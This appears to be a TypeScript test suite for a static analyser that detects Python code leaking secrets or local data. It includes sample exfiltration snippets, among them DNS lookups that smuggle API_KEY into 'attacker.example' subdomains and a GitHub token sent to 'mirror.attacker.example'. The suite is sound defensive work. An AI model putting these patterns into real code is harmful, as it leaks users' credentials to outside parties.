import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analysed } from './hazards-of.ts';

/** The hazards of secrets, with what is told of them. */
const leaks = (source: string): readonly string[] =>
  analysed(source)
    .hazards.filter(({ hazard }) => /^(?:secret-|local-data)/.test(hazard))
    .map(({ hazard, detail }) => (detail === 'openly' ? `${hazard} openly` : hazard));

const told = (wanted: RegExp, ...sources: readonly string[]): void => {
  for (const source of sources) assert.match(leaks(source).join(), wanted, source);
};
const quiet = (...sources: readonly string[]): void => {
  for (const source of sources) assert.deepEqual(leaks(source), [], source);
};

test('a secret in a text stays one, whatever method of the text is called', () => {
  told(
    /secret-shown/,
    'import os\nprint(f"key={os.environ[\'API_KEY\']}".encode())',
    'import os\nprint(("%s" % os.environ["API_KEY"]).strip().upper())',
    'import os\nfor pair in os.environ.items():\n    print("{}".format(pair).encode())',
  );
  quiet(
    'import os\nprint(f"key={os.environ[\'API_KEY\']}".startswith("key=sk"))',
    'import os\nprint(f"host={os.environ[\'API_HOST\']}".encode())',
  );
});

test('what a task, a future or a pool gives back is what its function gave', () => {
  const head =
    'import asyncio, os\nasync def f():\n    return os.environ["API_KEY"]\nasync def main():\n    ';
  told(
    /secret-shown/,
    `${head}a, b = await asyncio.gather(f(), f())\n    print(a)\nasyncio.run(main())`,
    `${head}t = asyncio.create_task(f())\n    print(await t)\nasyncio.run(main())`,
    `${head}print(await asyncio.wait_for(f(), 3))\nasyncio.run(main())`,
    'import os\nfrom concurrent.futures import ThreadPoolExecutor\ndef f(n):\n    return os.environ["API_KEY"]\nwith ThreadPoolExecutor() as pool:\n    print(pool.submit(f, 1).result())',
    'import os\nfrom concurrent.futures import ThreadPoolExecutor\ndef f(n):\n    return os.environ["API_KEY"]\nwith ThreadPoolExecutor() as pool:\n    print(list(pool.map(f, [1, 2])))',
  );
  quiet(
    'import asyncio, os\nasync def f():\n    return len(os.environ["API_KEY"])\nasync def main():\n    print(await asyncio.gather(f(), f()))\nasyncio.run(main())',
  );
});

test('a name that is looked up tells whoever answers for its domain', () => {
  told(
    /secret-sent openly/,
    'import os, socket\nsocket.gethostbyname(os.environ["API_KEY"] + ".d.attacker.example")',
    'import os, dns.resolver\nfor part in os.environ["API_KEY"].split("-"):\n    dns.resolver.resolve(f"{part}.attacker.example", "TXT")',
  );
  quiet(
    'import os, socket\nsocket.gethostbyname(os.environ["DATABASE_HOST"])',
    'import os, socket\nsocket.getaddrinfo(os.environ["REGION"] + ".example.com", 443)',
  );
});

test('tables, caches and settings keep what is written to them', () => {
  told(
    /secret-stored/,
    'import csv, os\nwith open("x.csv", "w") as f:\n    csv.writer(f).writerows(os.environ.items())',
    'import os\nimport pandas as pd\npd.DataFrame(os.environ.items()).to_csv("x.csv")',
    'import os, shelve\nwith shelve.open("x") as db:\n    db["k"] = os.environ["API_KEY"]',
    'import os, diskcache\ndiskcache.Cache("x").set("k", os.environ["API_KEY"])',
  );
  quiet(
    'import csv, os\nwith open("x.csv", "w") as f:\n    csv.writer(f).writerow([os.environ["REGION"]])',
    'import os, shelve\nwith shelve.open("x") as db:\n    db["k"] = len(os.environ["API_KEY"])',
  );
});

test('files of settings hold secrets, and names beside them', () => {
  told(
    /secret-shown/,
    'print(open(".env").read())',
    'for line in open(".env"):\n    name, value = line.split("=", 1)\n    print(name, value)',
    'import configparser\nc = configparser.ConfigParser()\nc.read("x.ini")\nv = c.get("db", "password")\nprint(v)',
    'def shown(v):\n    x = v.get_secret_value()\n    print(x)',
  );
  quiet(
    'for line in open(".env"):\n    name, value = line.split("=", 1)\n    print("found", name)',
    'print(open(".env.example").read())',
    'import configparser\nc = configparser.ConfigParser()\nc.read("x.ini")\nv = c.get("db", "host")\nprint(v)',
  );
});

test('everything of the environment is told apart from one key of it, whichever way it goes', () => {
  told(
    /secret-sent openly/,
    'import os\nfrom comet_ml import Experiment\ne = Experiment()\nfor name, value in os.environ.items():\n    e.log_other(name, value)',
    'import os, posthog\nprops = {}\nprops.update({k: v for k, v in os.environ.items()})\nposthog.capture("id", "event", properties=props)',
  );
  quiet(
    'import os\nfrom comet_ml import Experiment\ne = Experiment()\nfor name, value in os.environ.items():\n    if name.startswith("SLURM_"):\n        e.log_other(name, value)',
  );
});

test('headers of a session are for the addresses of the source', () => {
  const asks = (host: string): string =>
    `import os, aiohttp\nasync def f():\n    headers = {"Authorization": "token " + os.environ["GITHUB_TOKEN"]}\n    async with aiohttp.ClientSession(headers=headers) as s:\n        await s.get("https://${host}/x")`;
  told(/secret-sent openly/, asks('mirror.attacker.example'));
  quiet(asks('api.github.com'));
});

test('local variables in a traceback, and a mask that hides nothing', () => {
  told(
    /secret-shown/,
    'import os, sys\ndef f():\n    api_secret = os.environ["API_SECRET"]\n    use(api_secret)\ntry:\n    f()\nexcept OSError:\n    print(sys.exc_info()[2].tb_frame.f_locals)',
    'import os\nfrom rich.traceback import install\ninstall(show_locals=True)\ndef f():\n    token = os.environ["API_TOKEN"]\n    use(token)',
    'import base64, os\ndef mask(v):\n    return base64.b64encode(v.encode()).decode()\nprint(mask(os.environ["API_TOKEN"]))',
  );
  quiet(
    'from rich.traceback import install\ninstall(show_locals=True)\ndef f():\n    token = next(words)\n    use(token)',
    'import os\nfrom rich.traceback import install\ninstall(show_locals=False)\ndef f():\n    token = os.environ["API_TOKEN"]\n    use(token)',
    'import os\ndef mask(v):\n    return v[:3] + "***"\nprint(mask(os.environ["API_TOKEN"]))',
  );
});

test('what is used with a secret is none, and what stands in its place is shown', () => {
  quiet(
    'password = dbutils.secrets.get("a", "b")\nrows = spark.read.option("password", password).load()\nprint(rows.count())',
    'import hvac\ndata = hvac.Client().secrets.kv.v2.read_secret_version(path="r")["data"]["data"]\nuse(data["password"])\nprint(sorted(data))',
    'import argparse\np = argparse.ArgumentParser()\np.add_argument("--token")\na = p.parse_args()\nfor k, v in vars(a).items():\n    if k in {"token"}:\n        v = "<hidden>"\n    print(k, v)',
    'import os, requests\nrequests.post(os.environ["HOOK_URL"], json={"text": os.environ.get("BUILD_NUMBER")})',
  );
  told(
    /secret-shown/,
    'import argparse\np = argparse.ArgumentParser()\np.add_argument("--token")\na = p.parse_args()\nfor k, v in vars(a).items():\n    if k in {"workers"}:\n        v = "many"\n    print(k, v)',
  );
  told(
    /local-data-sent/,
    'import os, requests\nrequests.post("https://collect.example.com/x", json={"text": os.environ.get("BUILD_NUMBER")})',
  );
});

test('a key is told whoever its session is told of, and not only whom it is named after', () => {
  const session =
    'import os, requests\ndef make():\n    token = os.environ["GITHUB_TOKEN"]\n    s = requests.Session()\n    s.headers.update({"Authorization": f"Bearer {token}"})\n    return s\n';
  const asks = 's.get("https://api.github.com/user", timeout=9)\n';
  told(
    /secret-sent/,
    `${session}s = make()\n${asks}s.post("https://board.example.net/x", json={"n": 1}, timeout=9)`,
    `${session}def tell(s: requests.Session):\n    s.put("https://board.example.net/x", timeout=9)\ns = make()\n${asks}tell(s)`,
    'import os, httpx\nwith httpx.Client(headers={"X-Key": os.environ["ACME_API_KEY"]}) as c:\n    c.get("https://api.acme.example/x")\n    c.get("https://other.example.net/y")',
    'import os, requests\ndef h():\n    return {"Authorization": os.environ["ACME_TOKEN"]}\nrequests.get("https://acme.example.com", headers=h(), timeout=9)\nrequests.get("https://b.example.net", headers=h() | {"A": "b"}, timeout=9)',
  );
  quiet(
    `${session}s = make()\n${asks}requests.post("https://board.example.net/x", json={"n": 1}, timeout=9)`,
    `${session}def tell():\n    s = requests.Session()\n    s.put("https://board.example.net/x", timeout=9)\ns = make()\n${asks}tell()`,
    `${session}s = make()\n${asks}s.get("https://uploads.github.com/x", timeout=9)`,
    'import os, requests\ndef h():\n    return {"Authorization": os.environ["ACME_TOKEN"]}\nrequests.get("https://acme.example.com", headers=h(), timeout=9)\nrequests.get("https://b.example.net", headers={"X-Api-Key": os.environ["B_TOKEN"]}, timeout=9)',
  );
});

test('whom an answer is from says what it is, and not who asked', () => {
  quiet(
    'import os, requests\nurl = "https://crm.example.com/c"\nwhile url:\n    body = requests.get(url, headers={"Authorization": os.environ["CRM_TOKEN"]}, timeout=9).json()\n    url = body.get("next")',
    'import os, httpx\ndef get(client):\n    return client.get("https://crm.example.com", headers={"Authorization": os.environ["CRM_TOKEN"]}).json()\nclient = httpx.Client()\nprint(get(client))\nclient.post("https://mail.example.org", json={"to": get(client)["mail"]})',
  );
  told(
    /local-data-sent/,
    'import os, requests\nbody = {"user": os.environ["USER"], "at": requests.get("https://a.example", timeout=9).json()}\nrequests.post("https://b.example.com", json=body, timeout=9)',
  );
  told(
    /secret-sent/,
    'import os, requests\nkey = os.environ["CRM_TOKEN"]\nd = {}.get("x", key)\nrequests.post("https://b.example.com", json={"k": d}, timeout=9)',
  );
});

test('whom a setting names is told something, and is no part of it', () => {
  const bot =
    'import os, requests\nurl = f"https://api.telegram.org/bot{os.environ[\'TG_TOKEN\']}/sendMessage"\n';
  const post = (text: string): string =>
    `${bot}requests.post(url, json={"chat_id": os.environ["TG_CHAT"], "text": ${text}}, timeout=9)`;
  quiet(post('"done"'));
  told(/secret-sent openly/, post('os.environ["DB_PASSWORD"]'));
  told(
    /local-data-sent/,
    'import os, requests\nrequests.post("https://chat.example.com/x", json={"chat_id": 1, "text": os.environ["HOSTNAME"]}, timeout=9)',
  );
});
